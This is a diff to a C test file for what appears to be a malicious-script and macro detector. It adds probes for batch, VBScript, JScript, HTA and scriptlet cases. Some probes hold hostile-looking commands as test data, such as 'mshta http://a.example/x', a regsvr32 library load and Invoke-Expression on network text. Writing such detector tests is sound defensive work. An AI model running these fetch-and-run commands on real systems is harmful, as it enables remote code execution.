@@ -12,7 +12,7 @@ enum { ARGS = 6, BEFORE = 4 };
 
 typedef struct probe {
     const char *name;
-    bool open;          /* a script by itself, else a macro in a document */
+    uint16_t open;      /* a script by itself: true of PowerShell, or its kind; else a macro in a document */
     uint16_t op;
     sk_arg args[ARGS];
     struct { uint16_t op; sk_arg args[3]; } before[BEFORE];
@@ -30,7 +30,7 @@ static void check(const probe *p)
 {
     sk_limits limits = sk_limits_default();
     sk_report *r = sk_report_new(&limits, 1 << 20);
-    sk_artifact root = {.parent = SK_NO_ARTIFACT, .kind = p->open ? SK_KIND_SCRIPT_POWERSHELL : SK_KIND_OFFICE_DOC};
+    sk_artifact root = {.parent = SK_NO_ARTIFACT, .kind = p->open > 1 ? p->open : p->open ? SK_KIND_SCRIPT_POWERSHELL : SK_KIND_OFFICE_DOC};
     sk_artifact macro = {.parent = 0, .depth = 1, .relation = SK_REL_MACRO, .kind = SK_KIND_MACRO_VBA};
     (void)sk_report_add_artifact(r, &root);
     uint32_t at = p->open ? 0 : sk_report_add_artifact(r, &macro);
@@ -74,6 +74,16 @@ static const probe probes[] = {
     {"a script's text from the network", false, SK_OP_RUN, {A("command", "text of http://a.example"), A("via", "Invoke-Expression"), A("flow", "network unknown")}, {{0}}, EV(FETCH_RUN)},
     {"a script that hides what it starts", true, SK_OP_RUN, {A("path", "c:\\x.dat"), A("flow", "network computed")}, {{0}}, EV(FETCH_RUN)},
     {"an open installer", true, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, NONE},
+    {"the same in a batch file", SK_KIND_SCRIPT_BATCH, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, NONE},
+    {"the same in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"the same in JScript", SK_KIND_SCRIPT_JAVASCRIPT, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"the same in an HTML application", SK_KIND_SCRIPT_HTA, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"the same in a script file", SK_KIND_SCRIPT_WSF, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"the same in a scriptlet", SK_KIND_SCRIPT_SCRIPTLET, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"a library of the network in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "regsvr32 /s x.dll"), A("path", "x.dll"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
+    {"a program that fetches, in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "mshta http://a.example/x")}, {{0}}, EV(FETCH_RUN)},
+    {"a literal command of a VBScript by itself", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "net use z: \\\\server\\share")}, {{0}}, NONE},
+    {"a calculated command of a VBScript by itself", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "cmd /c dir"), A("flow", "computed")}, {{0}}, NONE},
     {"an answer that names a workbook", false, SK_OP_RUN, {A("command", "{answer}.xlsm"), A("flow", "network unknown")}, {{0}}, NONE},
     {"a decoded file", false, SK_OP_RUN, {A("command", "c:\\x.dat"), A("path", "c:\\x.dat"), A("flow", "decoded")}, {{0}}, EV(UNPACK_RUN)},
     {"code in memory", false, SK_OP_RUN, {A("command", "code in memory"), A("path", "memory"), A("flow", "computed")}, {{0}}, EV(UNPACK_RUN)},
